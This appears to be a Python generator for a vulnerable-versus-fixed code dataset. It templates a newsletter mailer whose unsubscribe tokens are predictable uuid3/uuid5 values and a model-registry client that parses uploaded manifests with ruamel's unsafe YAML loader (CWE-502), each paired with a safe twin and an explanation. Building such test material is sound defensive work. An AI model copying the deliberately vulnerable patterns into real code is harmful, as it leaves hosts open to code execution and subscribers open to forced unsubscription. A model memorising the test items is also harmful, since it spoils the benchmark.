                     "str(uuid.uuid3(uuid.NAMESPACE_URL, sub.email))")
    safe = c.pick("secrets.token_urlsafe(32)", "secrets.token_hex(20)")
    extra = _opt(c, '''
        def prune_bounced(conn: sqlite3.Connection, addresses: list[str]) -> int:
            """Deactivate addresses the provider reported as hard bounces."""
            cur = conn.executemany("UPDATE subscribers SET active = 0 WHERE email = ?", [(a,) for a in addresses])
            conn.commit()
            return cur.rowcount
    ''', '''
        def subscriber_count(conn: sqlite3.Connection) -> int:
            return conn.execute("SELECT count(*) FROM subscribers WHERE active = 1").fetchone()[0]
    ''')
    v = sub(_MAILER.replace("$extra", extra), w=w, Wc=Wc, domain=domain, tok=tok, tokline=tokline)
    s = _twin(v, (f"    {tok} = {tokline}  #@V\n", f"    {tok} = {safe}\n"), ("import logging\n", "import logging\nimport secrets\n"))
    return Spec(v=v, s=s, full=True, fw=c.fw,
                notes="the unsubscribe token is a name-based uuid3/uuid5 of the e-mail address under a public "
                      "namespace: anyone can compute it for any address and unsubscribe them; use a random token")


@hardneg(4)
def rand_uuid5_unsub_hn(c):
    spec = rand_uuid5_unsub(c)
    old = '    msg["Message-ID"] = f"<{uuid.uuid4().hex}@'
    assert old in spec.s
    hn = spec.s.replace(old, '    # stable per subscriber and day so a resend is threaded, not a secret\n'
                             '    ref = uuid.uuid5(uuid.NAMESPACE_URL, f"{SITE}/digest/{sub.id}/{date.today().isoformat()}")\n'
                             '    msg["X-Entity-Ref-ID"] = str(ref)\n' + old, 1)
    hn = hn.replace("from dataclasses import dataclass\n", "from dataclasses import dataclass\nfrom datetime import date\n", 1)
    return Spec(s=hn, full=True, fw=c.fw,
                notes="uuid5 only names a message for threading; the unsubscribe token comes from secrets")


# ---------------- CWE-502: model-registry loader reading manifests with ruamel YAML(typ="unsafe") ----------------

_REGISTRY = '''
"""Model registry client for the $w service: fetches model manifests and weights, keeps a local cache."""
from __future__ import annotations

import hashlib
import logging
import os
import shutil
from dataclasses import dataclass, field
from pathlib import Path

import requests
from ruamel.yaml import YAML

log = logging.getLogger("$w.models")

REGISTRY_URL = os.environ.get("MODEL_REGISTRY_URL", "https://models.$domain/api/v1")
CACHE_DIR = Path(os.environ.get("MODEL_CACHE_DIR", "/var/cache/$w-models"))
ALLOWED_FRAMEWORKS = frozenset({$frameworks})

$LOADER = YAML(typ="unsafe")  #@V


@dataclass
class Manifest:
    framework: str
    sha256: str
    inputs: list[str] = field(default_factory=list)
    metrics: dict[str, float] = field(default_factory=dict)

    @classmethod
    def from_doc(cls, doc: dict) -> "Manifest":
        return cls(
            framework=str(doc["framework"]),
            sha256=str(doc["sha256"]).lower(),
            inputs=[str(i) for i in doc.get("inputs", [])],
            metrics={str(k): float(v) for k, v in doc.get("metrics", {}).items()},
        )


def _get(path: str, stream: bool = False) -> requests.Response:
    resp = requests.get(f"{REGISTRY_URL}{path}", stream=stream, timeout=$timeout,
                        headers={"Authorization": f"Bearer {os.environ['MODEL_REGISTRY_TOKEN']}"})
    resp.raise_for_status()
    return resp


def fetch_manifest(name: str, version: str) -> Manifest:
    """Read the manifest a model's publisher uploaded with the version."""
    $text = _get(f"/models/{name}/versions/{version}/manifest.yaml").text  #@S
    doc = $LOADER.load($text)  #@V
    if not isinstance(doc, dict):
        raise ValueError(f"{name}:{version}: manifest is not a mapping")
    manifest = Manifest.from_doc(doc)
    if manifest.framework not in ALLOWED_FRAMEWORKS:
        raise ValueError(f"{name}:{version}: unsupported framework {manifest.framework!r}")
    return manifest


def download_weights(name: str, version: str, manifest: Manifest) -> Path:
    """Stream the weights into the cache and check them against the manifest digest."""
    dest = CACHE_DIR / name / version / "model.bin"
    if dest.exists():
        return dest
    dest.parent.mkdir(parents=True, exist_ok=True)
    partial = dest.with_suffix(".part")
    digest = hashlib.sha256()
    with _get(f"/models/{name}/versions/{version}/weights", stream=True) as resp, partial.open("wb") as fh:
        for chunk in resp.iter_content(chunk_size=1 << 20):
            digest.update(chunk)
            fh.write(chunk)
    if digest.hexdigest() != manifest.sha256:
        partial.unlink()
        raise ValueError(f"{name}:{version}: weights do not match the manifest digest")
    partial.replace(dest)
    log.info("cached %s:%s (%s)", name, version, manifest.framework)
    return dest


$extra


def load(name: str, version: str) -> tuple[Manifest, Path]:
    """Manifest and local weights path of one model version, ready for the serving runtime."""
    manifest = fetch_manifest(name, version)
    return manifest, download_weights(name, version, manifest)
'''


@fam("deser-ruamel-yaml-unsafe-typ", "CWE-502", fws=["pipeline", "script"], n=8, wrap=False)
def deser_ruamel_unsafe(c):
    w, Wc = _w(c)
    loader = c.pick("MANIFEST_LOADER", "_loader", "manifest_parser", "PARSER")
    text = c.pick("text", "raw", "body", "manifest_text")
    extra = _opt(c, '''
        def cached_versions(name: str) -> list[str]:
            """Versions of a model present in the local cache, oldest first."""
            root = CACHE_DIR / name
            if not root.is_dir():
                return []
            dirs = [d for d in root.iterdir() if (d / "model.bin").exists()]
            return [d.name for d in sorted(dirs, key=lambda d: d.stat().st_mtime)]
    ''', '''
        def prune_cache(name: str, keep: int = $keep) -> int:
            """Remove all but the newest ``keep`` cached versions of a model."""
            root = CACHE_DIR / name
            if not root.is_dir():
                return 0
            dirs = sorted((d for d in root.iterdir() if d.is_dir()), key=lambda d: d.stat().st_mtime)
            old = dirs[:-keep] if keep > 0 else dirs
            for d in old:
                shutil.rmtree(d)
            log.info("pruned %d cached versions of %s", len(old), name)
            return len(old)
    ''', '''
        def best_by(metric: str, candidates: dict[str, Manifest]) -> str:
            """The version whose manifest reports the highest value of ``metric``."""
            scored = {v: m.metrics[metric] for v, m in candidates.items() if metric in m.metrics}
            if not scored:
                raise KeyError(f"no candidate reports {metric}")
            return max(scored, key=scored.get)
    ''')
    v = sub(_REGISTRY.replace("$extra", extra), w=w, LOADER=loader, text=text, keep=c.pick(2, 3, 5),
            domain=c.pick("internal.example.com", "ml.corp.local", f"{w}-ml.example.net"),
            frameworks=c.pick('"onnx", "torchscript", "xgboost"', '"onnx", "lightgbm"', '"onnx", "sklearn-onnx", "tflite"'),
            timeout=c.pick(10, 30, 60))
    if "shutil.rmtree" not in v:
        v = v.replace("import shutil\n", "")
    s = _twin(v, (f'{loader} = YAML(typ="unsafe")  #@V\n', f'{loader} = YAML(typ="safe")\n'))
    return Spec(v=v, s=s, full=True, fw=c.fw,
                notes="the manifest any model publisher uploads is parsed with ruamel's unsafe loader, which "
                      "builds arbitrary Python objects from !!python/object tags: a crafted manifest runs code "
                      "on the serving host that loads the model; use typ=\"safe\"")
